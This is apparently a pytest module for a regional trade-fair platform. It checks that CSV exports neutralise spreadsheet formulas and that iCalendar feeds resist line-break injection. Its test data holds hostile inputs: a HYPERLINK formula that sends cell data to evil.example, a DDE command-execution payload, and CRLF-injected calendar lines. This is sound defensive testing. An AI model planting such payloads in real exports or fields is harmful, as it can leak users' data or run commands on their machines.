"""Hostile values in what the platform exports, through the HTTP API in both modes: cells that a
spreadsheet program would run as a formula come out of both CSV exports with a quote in front (the
numbers the exports write themselves stay numbers), and a producer whose name carries a line break
(older data: the API refuses such names now) still gets its calendar feed, the name on one line.

Isolation: the producers here are from Tuyên Quang, which no other test module uses."""

from __future__ import annotations

import csv
import io
import uuid

from events_support import answer, by_producer, create_fair, known, publish
from icalendar import Calendar
from sqlalchemy import update

from services.events.models import Fair, ProducerView

PROVINCE = "Tuyên Quang"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def parse_csv(response) -> list[dict]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def register(api, name: str, product: str, score: int = 80) -> dict:
    code = f"X-{uuid.uuid4().hex[:8]}"
    r = api.call(
        "POST",
        "registry",
        "/producers",
        "registry_officer",
        json={
            "code": code,
            "name": name,
            "kind": "cooperative",
            "province": PROVINCE,
            "email": f"{code.lower()}@example.vn",
            "phone": "+84 912 345 678",
            "consent": {"email": True, "sms": False},
        },
    )
    assert r.status_code == 201, r.text
    producer = r.json()
    r = api.call(
        "POST",
        "registry",
        "/products",
        "registry_officer",
        json={"producer_id": producer["id"], "name": product, "group": 4},
    )
    assert r.status_code == 201, r.text
    item = r.json()
    r = api.call(
        "POST",
        "registry",
        "/certifications",
        "registry_officer",
        json={
            "product_id": item["id"],
            "score": score,
            "issued_by": "UBND tỉnh Tuyên Quang",
            "decision_number": "=1+1",
            "decision_date": "2025-07-20",
        },
    )
    assert r.status_code == 201, r.text
    return {"id": producer["id"], "product": item}


def test_both_csv_exports_neutralise_formulas_and_keep_numbers(api):
    made = [register(api, formula, f"{formula} sản phẩm") for formula in FORMULAS]
    known(api, [m["product"]["id"] for m in made])

    rows = {
        r["producer_id"]: r
        for r in parse_csv(
            api.call("GET", "registry", "/products/export.csv", "trade_officer", params={"province": PROVINCE})
        )
    }
    for m, formula in zip(made, FORMULAS, strict=True):
        row = rows[m["id"]]
        assert row["producer_name"] == "'" + formula and row["name"] == f"'{formula} sản phẩm"
        assert row["decision_number"] == "'=1+1" and row["stars"] == "4"  # a number stays a number

    fair = create_fair(api, PROVINCE, capacity=10, rules={"groups": [4]})
    publish(api, fair["id"])
    mine = by_producer(api, fair["id"])
    for m in made:
        assert answer(api, mine[m["id"]], "accept").status_code == 200
    rows = parse_csv(api.call("GET", "events", f"/fairs/{fair['id']}/participants.csv", "trade_officer"))
    by_id = {r["producer_id"]: r for r in rows}
    assert set(by_id) == {m["id"] for m in made}
    for m, formula in zip(made, FORMULAS, strict=True):
        row = by_id[m["id"]]
        assert row["producer"] == "'" + formula and row["product"] == f"'{formula} sản phẩm"
        assert row["phone"].startswith("'+") and row["stars"] == "4"
        assert row["subsidy"] == str(8_000_000) and int(row["rank"]) > 0


def test_a_producer_name_with_a_line_break_keeps_its_calendar_feed(platform, api):
    m = register(api, "Hợp tác xã Chè Shan tuyết", "Chè Shan tuyết Na Hang")
    known(api, [m["product"]["id"]])
    fair = create_fair(api, PROVINCE, capacity=5, rules={"groups": [4]})
    publish(api, fair["id"])
    assert answer(api, by_producer(api, fair["id"])[m["id"]], "accept").status_code == 200
    events = platform.runtimes["events"]
    with events.transaction() as s:  # as older data may still say it
        s.execute(
            update(ProducerView)
            .where(ProducerView.producer_id == m["id"])
            .values(name="HTX Chè\r\nX-EVIL:1\rBEGIN:VEVENT\x0b")
        )
        s.execute(update(Fair).where(Fair.id == fair["id"]).values(name="Hội chợ\r\nX-EVIL:2\nEND:VEVENT"))
    try:
        r = api.call("GET", "events", f"/calendars/producers/{m['id']}.ics", "producer", sub=m["id"])
    finally:  # the platform is shared: the read model again agrees with the registry (test_replay checks it)
        with events.transaction() as s:
            s.execute(
                update(ProducerView).where(ProducerView.producer_id == m["id"]).values(name="Hợp tác xã Chè Shan tuyết")
            )
    assert r.status_code == 200, r.text
    lines = r.content.split(b"\r\n")
    assert not any(b"\r" in line or b"\n" in line or b"\x0b" in line for line in lines)
    assert not any(line.startswith((b"X-EVIL", b"BEGIN:VEVENT\\")) for line in lines)
    cal = Calendar.from_ical(r.content)
    assert str(cal["X-WR-CALNAME"]).endswith("HTX Chè X-EVIL:1 BEGIN:VEVENT ")
    [event] = cal.walk("VEVENT")
    assert "X-EVIL" not in event and str(event["SUMMARY"]) == "Hội chợ X-EVIL:2 END:VEVENT"
